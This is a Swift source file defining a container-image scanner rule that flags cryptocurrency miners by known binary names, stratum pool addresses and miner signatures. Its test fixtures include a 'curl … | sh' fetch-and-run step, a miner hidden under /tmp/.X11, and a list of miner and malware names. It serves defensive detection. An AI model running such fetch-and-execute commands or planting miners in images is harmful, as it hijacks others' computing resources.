import Findings
import Images

extension Rule {
  static let layerMiner = Rule(
    id: "layer-miner",
    summary: "The image has a program that mines cryptocurrency, or an address of a mining pool.",
    why: """
      Nobody ships a miner with a service. It is how intruders earn, so it shows that somebody else had write access to \
      the image, its base or its build.
      """,
    fix: """
      Do not run the image. Find out which step or base brought the miner, rebuild from a trusted base, and change every \
      credential that the build had.
      """,
    severity: .high, confidence: .firm,
    references: [.cwe(506), .nist("4.1.3")],
    triggering: [
      .image(
        "programs by their names",
        """
        layer: RUN curl -fsSL https://example.org/x | sh
        ▶ -rwxr-xr-x 0:0 /tmp/.X11/xmrig 4000
        """),
      .image(
        "the protocol of mining pools, in a command, a variable or a step",
        """
        ▶ Env: POOL=stratum+tcp://pool.example.org:3333
        ▶ Cmd: ["/srv/worker", "-o", "stratum+ssl://pool.example.org:443"]
        ▶ history: RUN /bin/sh -c echo stratum+tcp://pool.example.org:3333 > /etc/worker.conf
        """),
      .image(
        "a program under another name, by its texts",
        """
        layer: COPY . /
        ▶ -rwxr-xr-x 0:0 /usr/local/bin/dbused
          program miner
        """),
    ],
    silent: [
      .image(
        "files that only bear such a name",
        """
        Env: POOL_SIZE=10
        layer: COPY . /srv
          -rw-r--r-- 0:0 /srv/docs/xmrig 40
          -rwxr-xr-x 0:0 /srv/determiner 40
        """),
      .image(
        "a program that knows how a pool's address begins, as one that looks for miners does",
        """
        layer: COPY . /
          -rwxr-xr-x 0:0 /usr/local/bin/guard
          program pool-address
        """),
    ],
    check: .image { image, _ in
      var matches: [Match] = Miners.names.flatMap { image.occurrences(named: $0) }
        .filter { $0.state == .visible && $0.isExecutable }
        .map { Match($0, in: image, "\($0.path.shown) has the name of a program that mines cryptocurrency.") }
      for told in image.facts.programs where told.value.minerSigns.count > 1 {
        guard let file = image.file(at: String(decoding: told.path, as: UTF8.self)),
          !Miners.names.contains(file.path.name)
        else { continue }
        let signs = Phrase.list(told.value.minerSigns.map(\.phrase))
        matches.append(Match(file, in: image, "\(file.path.shown) holds \(signs), as programs that mine do."))
      }
      for (index, variable) in image.config.execution.environment.enumerated() where Miners.hasPool(variable)
      {
        let name = variable.prefix { $0 != "=" }
        matches.append(Match(.config("Env[\(index)]"), "\(name) has the address of a mining pool."))
      }
      if let command = image.mainCommand, command.words.contains(where: Miners.hasPool) {
        let field = command.field.rawValue
        matches.append(Match(.config(field), "\(field) has the address of a mining pool."))
      }
      for (index, step) in image.history.steps.enumerated()
      where step.keyword == "RUN" && Miners.hasPool(step.arguments) {
        matches.append(Match(image.place(ofStep: index), "The step RUN writes the address of a mining pool."))
      }
      return matches
    })
}

/// Programs that mine, by names that nothing else has.
private enum Miners {
  static let names = [
    "xmrig", "xmr-stak", "xmrigDaemon", "xmrigMiner", "minerd", "cpuminer", "cpuminer-multi", "ccminer",
    "ethminer", "nbminer", "lolMiner", "phoenixminer", "teamredminer", "nanominer", "kdevtmpfsi", "kinsing",
  ]

  private static let schemes = ["stratum+tcp://", "stratum+ssl://", "stratum+tls://", "stratum2+tcp://"]

  /// Whether a text has an address of the protocol by which miners speak with their pool.
  static func hasPool(_ text: String) -> Bool {
    text.hasText("stratum") && schemes.contains { text.hasText($0) }
  }
}

extension MinerSign {
  fileprivate var phrase: String {
    switch self {
    case .pool: "the scheme of mining pools' addresses"
    case .commands: "the commands of mining pools"
    case .donation: "the option for the miner's author's share"
    case .algorithm: "the name of a mining algorithm"
    }
  }
}
